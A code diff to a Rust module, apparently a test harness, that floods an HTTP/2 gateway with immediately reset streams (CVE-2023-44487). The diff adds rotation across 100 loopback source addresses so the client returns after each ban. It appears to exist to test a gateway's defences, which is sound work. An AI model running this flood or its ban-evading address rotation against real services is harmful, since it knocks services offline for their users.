@@ -1,14 +1,18 @@
-//! A client that opens HTTP/2 streams and resets each at once, as fast as the gateway takes them (CVE-2023-44487), and
-//! comes again when it is sent away.
+//! A client that opens HTTP/2 streams and resets each at once, as fast as the gateway takes them (CVE-2023-44487). When it
+//! is sent away it comes again, from the next of many addresses.
 
 use std::io::{self, Read as _, Write as _};
-use std::net::{SocketAddr, TcpStream};
+use std::net::{Ipv4Addr, SocketAddr, TcpStream};
 use std::time::{Duration, Instant};
+
+use socket2::{Domain, Socket, Type};
 
 /// That are taken, over as many connections as it takes.
 pub(crate) const RESETS: usize = 100_000;
 /// Streams that are written at once, and taken before there are more.
 const BATCH: usize = 50;
+/// Where it comes from: each is sent away for a while, and none is the steady clients'.
+const ADDRESSES: usize = 100;
 /// A gateway that does not answer a ping for so long has enough.
 const ANSWERED: Duration = Duration::from_secs(5);
 /// A gateway that takes no more of them in this time has won.
@@ -40,16 +44,17 @@ pub(crate) fn flood(gateway: SocketAddr) -> Flooded {
     let begin = Instant::now();
     let (mut resets, mut connections) = (0, 0);
     while resets < RESETS && begin.elapsed() < PATIENCE {
+        let from = Ipv4Addr::new(127, 0, 2, 1 + (connections % ADDRESSES) as u8);
         connections += 1;
         // However the connection ends: another one follows.
-        let _ = flood_one(gateway, &mut resets);
+        let _ = flood_one(gateway, from, &mut resets);
     }
     Flooded { resets, connections, took: begin.elapsed() }
 }
 
 /// Until the gateway closes the connection, or says that it will.
-fn flood_one(gateway: SocketAddr, resets: &mut usize) -> io::Result<()> {
-    let mut socket = TcpStream::connect(gateway)?;
+fn flood_one(gateway: SocketAddr, from: Ipv4Addr, resets: &mut usize) -> io::Result<()> {
+    let mut socket = connect(gateway, from)?;
     socket.set_nodelay(true)?;
     socket.set_write_timeout(Some(ANSWERED))?;
     socket.set_read_timeout(Some(ANSWERED))?;
@@ -70,6 +75,13 @@ fn flood_one(gateway: SocketAddr, resets: &mut usize) -> io::Result<()> {
         *resets += BATCH;
     }
     Ok(())
+}
+
+fn connect(gateway: SocketAddr, from: Ipv4Addr) -> io::Result<TcpStream> {
+    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
+    socket.bind(&SocketAddr::from((from, 0)).into())?;
+    socket.connect(&gateway.into())?;
+    Ok(socket.into())
 }
 
 /// Whether the ping behind a batch is answered: all of it has been taken by then.
